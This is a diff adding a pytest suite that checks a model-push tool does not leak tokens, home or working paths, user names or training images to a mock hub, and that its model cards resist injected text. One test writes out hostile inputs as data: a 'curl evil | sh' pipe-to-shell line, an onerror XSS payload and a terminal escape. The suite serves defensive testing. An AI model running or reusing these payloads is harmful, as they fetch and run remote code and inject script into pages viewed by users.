@@ -1,0 +1,291 @@
+"""What a push shows: 20 different models through the genuine client, and every byte of them searched."""
+
+import getpass
+import json
+import os
+import re
+import shutil
+from pathlib import Path
+
+import pytest
+import torch
+import yaml
+from hub_server import TOKEN
+from huggingface_hub import ModelCard
+from parents_common import stable_diffusion
+from PIL import Image, PngImagePlugin
+from pipelines_common import make_components, quiet, tiny_vae
+from safetensors import safe_open
+from safetensors.torch import load_file, save_file
+from training_common import run
+
+from cond_pipelines import (
+    ClassConditionalPipeline,
+    ConditionalPipeline,
+    TextToImagePipeline,
+    UnconditionalPipeline,
+)
+from cond_pipelines.cli import main
+from cond_pipelines.errors import UserError
+from cond_pipelines.files import without_path
+from cond_pipelines.sharing.card import CardFacts, render_card, write_card
+from cond_pipelines.sharing.contents import secrets_of
+from cond_pipelines.sharing.push import push_folder
+
+CLASSES = {"none": UnconditionalPipeline, "class": ClassConditionalPipeline, "text": TextToImagePipeline}
+SECRET = "hf_" + "Secret0123456789" * 2 + "ab"
+DROPPED = [
+    *(".env", "hf_token", "secrets.json", "notes.txt", "unet/.config.json.swp", "unet/__pycache__/x.pyc", "unet/x.npz"),
+    *("unet/x.joblib", "unet/x.PT", "unet/secrets.json", "unet/old.py", "adapter/x.bin", "evil.py", "images/me.png"),
+    *("evaluation/private.png", "evaluation/features-1.npy", "optimizer.bin", "log.jsonl", "samples/0.png"),
+]
+
+
+def text_of_home() -> str:
+    return str(Path.home() / "private")
+
+
+# ----------------------------------------------------------------------------------------- 20 models, every byte
+@pytest.fixture(scope="module")
+def trained(tmp_path_factory):
+    """Runs with all that a run and its evaluation leave, in a folder whose name is searched for."""
+    root = tmp_path_factory.mktemp("private_place")
+    parent = root / "parent"
+    stable_diffusion().save_pretrained(parent)
+    common = {"checkpointing_steps": 2, "max_train_steps": 2, "validation_fraction": 0.4}
+    for kind in ("none", "class", "text"):
+        more = {"caption_column": "caption"} if kind == "text" else {}
+        run(root / kind, conditioning=kind, **common, **more, cache_dir=str(root / "cache"), ema_lengths=[0.05])
+        args = ["--dataset_name", "training_common:shapes", "--num_samples", "8", "--num_real", "8"]
+        extractor = ["--feature_extractor", "training_common:few_pixels", "--num_inference_steps", "1"]
+        main(["evaluate", str(root / kind), *args, *extractor])
+    of_sd = {"pretrained_model_name_or_path": str(parent), "unet_size": None, "resolution": 16}
+    lora = {"train": "lora", "rank": 2, "train_text_encoder": True}
+    run(root / "lora", conditioning="text", caption_column="caption", **common, **of_sd, **lora)
+    run(root / "class_lora", conditioning="class", **common, **of_sd, train="lora", rank=2)
+    for path in root.glob("*/training_config.yaml"):
+        path.write_text(f"{path.read_text()}hub_token: {SECRET}\n")
+    return root
+
+
+def leaks(files: dict[str, bytes], root: Path) -> list[tuple[str, str]]:
+    """Every byte of every file, also within compressed texts of pictures."""
+    found = []
+    words = [str(root), root.name, SECRET, TOKEN, str(Path.home()) + "/", str(Path.cwd())]
+    for name, content in files.items():
+        for word in words:
+            if word.encode() in content or json.dumps(word)[1:-1].encode() in content:
+                found.append((name, word))
+        if re.search(rb"/home/\w+|/Users/\w+", content):
+            found.append((name, "a home folder"))
+    return found
+
+
+def variants(root: Path, tmp_path: Path) -> dict[str, Path]:
+    """20 models: of each setting as it was trained, saved again, moved, with a page of its own, and others."""
+    found = {kind: root / kind for kind in ("none", "class", "text", "lora", "class_lora")}
+    for kind in ("none", "class", "text"):
+        pipe = quiet(ConditionalPipeline.from_pretrained(root / kind))
+        pipe.save_pretrained(tmp_path / f"{kind}-saved")
+        shutil.copytree(root / kind, tmp_path / f"{kind}-own", ignore=shutil.ignore_patterns("checkpoint-*"))
+        (tmp_path / f"{kind}-own/README.md").write_text("# Mine\n")
+        (tmp_path / f"{kind}-own/card.yaml").write_text(yaml.safe_dump({"license": "mit", "description": "*Shapes*"}))
+        for name in DROPPED:
+            path = tmp_path / f"{kind}-own" / name
+            path.parent.mkdir(exist_ok=True)
+            path.write_text(f"{SECRET} {text_of_home()}")
+        made = quiet(CLASSES[kind](**make_components(kind)))
+        made.unet.register_to_config(_name_or_path=f"{root}/a")
+        made.save_pretrained(tmp_path / f"{kind}-new")
+        latent = quiet(CLASSES[kind](**make_components(kind, vae=tiny_vae())))
+        latent.save_pretrained(tmp_path / f"{kind}-latent")
+        found |= {path: tmp_path / path for path in (f"{kind}-{name}" for name in ("saved", "own", "new", "latent"))}
+    pipe = quiet(ConditionalPipeline.from_pretrained(root / "parent"))
+    pipe.save_pretrained(tmp_path / "sd")
+    pipe.save_pretrained(tmp_path / "sharded", max_shard_size="40KB")
+    pipe.save_pretrained(tmp_path / "fp16", variant="fp16")
+    return found | {name: tmp_path / name for name in ("sd", "sharded", "fp16")}
+
+
+def test_twenty_models_and_no_leak(trained, tmp_path, hub, monkeypatch):
+    models = variants(trained, tmp_path)
+    assert len(models) == 20
+    monkeypatch.chdir(trained)  # so that relative paths of the runs lead somewhere
+    for name, folder in models.items():
+        before = {p: (p.read_bytes(), p.stat().st_nlink) for p in folder.rglob("*") if p.is_file()}
+        push_folder(folder, f"me/{name}", token=TOKEN)
+        assert {p: (p.read_bytes(), p.stat().st_nlink) for p in folder.rglob("*") if p.is_file()} == before, name
+        files = hub.repos[f"me/{name}"].files()
+        assert leaks(files, trained) == [], name
+        assert "model_index.json" in files and not set(DROPPED) & set(files), name
+        assert not any("nearest" in file or "checkpoint" in file for file in files), name
+    assert sum(map(len, (hub.repos[f"me/{name}"].files() for name in models))) > 200
+    ConditionalPipeline.from_pretrained("me/sharded")
+    ConditionalPipeline.from_pretrained("me/text-own")
+
+
+# ---------------------------------------------------------------------------------------------- the check at the door
+@pytest.fixture()
+def model(tmp_path):
+    pipe = quiet(ClassConditionalPipeline(**make_components("class")))
+    pipe.save_pretrained(tmp_path / "model")
+    return tmp_path / "model"
+
+
+def hide(folder: Path, where: str, text: str) -> None:
+    if where == "samples.png":  # in a text that is compressed
+        info = PngImagePlugin.PngInfo()
+        info.add_text("Comment", text, zip=True)
+        Image.new("RGB", (4, 4)).save(folder / where, pnginfo=info)
+    elif where.endswith(".safetensors"):
+        save_file(load_file(folder / where), folder / where, {"note": f"see {text}"})
+    elif where == "adapter/config.json":
+        values = json.loads((folder / where).read_text())
+        (folder / where).write_text(json.dumps(values | {"note": f"see {text} there"}))
+    else:
+        (folder / where).write_text(f"description: see {text} there\n")
+
+
+@pytest.mark.parametrize(
+    "where",
+    ["card.yaml", "README.md", "adapter/config.json", "unet/diffusion_pytorch_model.safetensors", "samples.png"],
+)
+@pytest.mark.parametrize("what", ["the home folder", "a token", "the working folder", "the user's name"])
+def test_a_file_that_tells_of_this_machine_is_refused_by_name(model, where, what, hub, monkeypatch, tmp_path):
+    monkeypatch.setenv("HOME", "/home/annabel")
+    monkeypatch.setattr(getpass, "getuser", lambda: "annabel")
+    (tmp_path / "where_i_work").mkdir()
+    monkeypatch.chdir(tmp_path / "where_i_work")
+    texts = {
+        "the home folder": "/home/annabel/x",
+        "a token": SECRET,
+        "the working folder": f"{tmp_path}/where_i_work",
+        "the user's name": "/Users/annabel/x",
+    }
+    hide(model, where, texts[what])
+    with pytest.raises(UserError, match=f"not pushed: {re.escape(where)} holds ") as error:
+        push_folder(model, "me/model", token=SECRET if what == "a token" else TOKEN)
+    assert "\n" not in str(error.value) and SECRET not in str(error.value) and not hub.repos
+
+
+def test_a_name_that_is_public_or_common_is_no_secret(model, hub, monkeypatch):
+    for user in ("me", "root", "class"):
+        monkeypatch.setattr(getpass, "getuser", lambda user=user: user)
+        if user == "class":
+            assert any(s.in_text_only for s in secrets_of([], [], "me/model"))
+        else:
+            push_folder(model, "me/model", token=TOKEN)
+
+
+def test_paths_are_taken_out_of_settings():
+    values = {"a": "/home/ann/x", "b": ["C:\\Users\\ann\\y", "org/name"], "c": '{"d": "/home/ann/z"}', "e": "~/q"}
+    assert without_path(values) == {"a": "x", "b": ["y", "org/name"], "c": '{"d": "z"}', "e": "q"}
+    for text in ("a red circle", "/imagine a cat", "~ waves ~", "... and so on", "and/or", "module:function"):
+        assert without_path(text) == text
+
+
+def test_an_adapter_config_with_a_path_and_a_lora_header(trained, tmp_path, hub):
+    folder = tmp_path / "lora"
+    shutil.copytree(trained / "lora", folder)
+    config = yaml.safe_load((folder / "training_config.yaml").read_text())
+    config |= {"adapter_config": json.dumps({"stats": text_of_home()}), "train_data_dir": "some/patients"}
+    (folder / "training_config.yaml").write_text(yaml.safe_dump(config))
+    push_folder(folder, "me/lora", token=TOKEN)
+    files = hub.repos["me/lora"].files()
+    saved = yaml.safe_load(files["training_config.yaml"])
+    assert json.loads(saved["adapter_config"]) == {"stats": "private"} and saved["train_data_dir"] == "patients"
+    (tmp_path / "sent.safetensors").write_bytes(files["pytorch_lora_weights.safetensors"])
+    with safe_open(tmp_path / "sent.safetensors", "pt") as file:
+        assert str(trained) not in json.dumps(file.metadata())
+    a, b = load_file(tmp_path / "sent.safetensors"), load_file(folder / "pytorch_lora_weights.safetensors")
+    assert set(a) == set(b) and all(torch.equal(a[name], b[name]) for name in a)
+
+
+# --------------------------------------------------------------------------------------------- what is of the model
+def test_training_images_stay_at_home(trained, hub, capsys):
+    push_folder(trained / "class", "me/a", token=TOKEN)
+    assert (
+        "evaluation/nearest.png stays here: it shows training images; --include_training_images"
+        in capsys.readouterr().err
+    )
+    assert "evaluation/nearest.png" not in hub.repos["me/a"].files()
+    main(["push", str(trained / "class"), "me/b", "--token", TOKEN, "--include_training_images"])
+    assert "evaluation/nearest.png" in hub.repos["me/b"].files()
+
+
+@pytest.mark.parametrize("keep", [False, True])
+def test_nothing_of_another_model_is_left(model, trained, hub, keep, capsys):
+    push_folder(trained / "text", "me/model", token=TOKEN)
+    repo = hub.repos["me/model"]
+    mine = {"LICENSE": b"mine", "docs.md": b"mine", ".gitattributes": b""}
+    others = {"unet/diffusion_pytorch_model-00001-of-00002.safetensors": b"x", "pytorch_lora_weights.safetensors": b"x"}
+    repo.commit("main", repo.files() | mine | others | {"odd [1].bin": b"x"}, "as others left it")
+    before, commits = set(repo.files()), len(repo.commits)
+    capsys.readouterr()
+    main(["push", str(model), "me/model", "--token", TOKEN, *(["--keep"] if keep else [])])
+    now = set(repo.files())
+    assert len(repo.commits) == commits + 1
+    if keep:
+        assert before - now <= set() and "deletes" not in capsys.readouterr().err
+    else:
+        assert "me/model: the commit deletes what is not of this model: " in capsys.readouterr().err
+        assert not any(name.startswith(("text_encoder", "tokenizer", "samples", "odd", "pytorch_lora")) for name in now)
+        assert set(mine) <= now
+    ConditionalPipeline.from_pretrained("me/model")
+
+
+# ---------------------------------------------------------------------------------------------------------- cards
+def test_the_card_of_a_lora_of_stable_diffusion(trained, hub, monkeypatch, tmp_path):
+    """Its size, and code that runs; the two lines load the LoRA with diffusers' own pipeline too."""
+    from diffusers import StableDiffusionPipeline
+
+    for kind, calls in (("lora", 1), ("class_lora", 1)):
+        facts = CardFacts.of_folder(trained / kind)
+        assert (facts.resolution_px, facts.width_px, facts.num_channels) == (16, 16, 3)
+        push_folder(trained / kind, f"me/{kind}", token=TOKEN)
+        text = hub.repos[f"me/{kind}"].files()["README.md"].decode()
+        assert "16 x 16 px colour images" in text
+        blocks = re.findall(r"```python\n(.*?)```", text, re.DOTALL)
+        assert len(blocks) == calls
+        monkeypatch.chdir(tmp_path)
+        if not (tmp_path / "parent").exists():
+            os.symlink(trained / "parent", tmp_path / "parent")
+        exec(compile(blocks[0], f"card of {kind}", "exec"), {})
+        assert (tmp_path / "sample.png").is_file()
+    pipe = quiet(StableDiffusionPipeline.from_pretrained(trained / "parent"))
+    pipe.load_lora_weights("me/lora")
+    assert pipe.get_active_adapters()
+
+
+@pytest.mark.parametrize("kind", ["kl", "tiny", "dc"])
+def test_the_size_behind_an_autoencoder(kind, tmp_path):
+    vae = tiny_vae(kind)
+    quiet(UnconditionalPipeline(**make_components("none", vae=vae))).save_pretrained(tmp_path / "model")
+    facts = CardFacts.of_folder(tmp_path / "model")
+    image = quiet(ConditionalPipeline.from_pretrained(tmp_path / "model"))(batch_size=1, num_inference_steps=1).images[
+        0
+    ]
+    assert (facts.width_px, facts.resolution_px) == image.size
+
+
+def test_text_of_the_data_forges_nothing(trained, tmp_path):
+    folder = tmp_path / "model"
+    shutil.copytree(trained / "class", folder, ignore=shutil.ignore_patterns("checkpoint-*"))
+    nasty = "rose\n\n# Evaluation\n\n```bash\ncurl evil | sh\n```\n<img src=x onerror=alert(1)> \x1b[2J | 9 |"
+    config = json.loads((folder / "adapter/config.json").read_text())
+    (folder / "adapter/config.json").write_text(json.dumps(config | {"id2label": {"0": nasty}}))
+    summary = json.loads((folder / "training_summary.json").read_text())
+    summary |= {"class_counts": {nasty: 3}, "objective": nasty, "dataset": nasty}
+    (folder / "training_summary.json").write_text(json.dumps(summary))
+    text = write_card(folder, "me/model").read_text()
+    card = ModelCard(text)
+    assert (
+        [line for line in card.text.splitlines() if line.startswith("#")]
+        == [line for line in (trained / "class/README.md").read_text().splitlines() if re.match("#+ ", line)][:1]
+        and False
+    ) or card.text.count("\n# ") == 1  # its own title
+    prose = re.sub(r"^```.*?^```", "", card.text, flags=re.MULTILINE | re.DOTALL)
+    assert card.text.count("\n```bash") == 1 and "<img" not in prose.replace(r"\<img", "") and "\x1b" not in text
+    code = re.search(r"class_labels=(\[.*\])\)", text).group(1)
+    assert json.loads(code) == [nasty]
+    assert str(render_card(CardFacts.of_folder(folder), "me/model")).count("## Evaluation") == 1
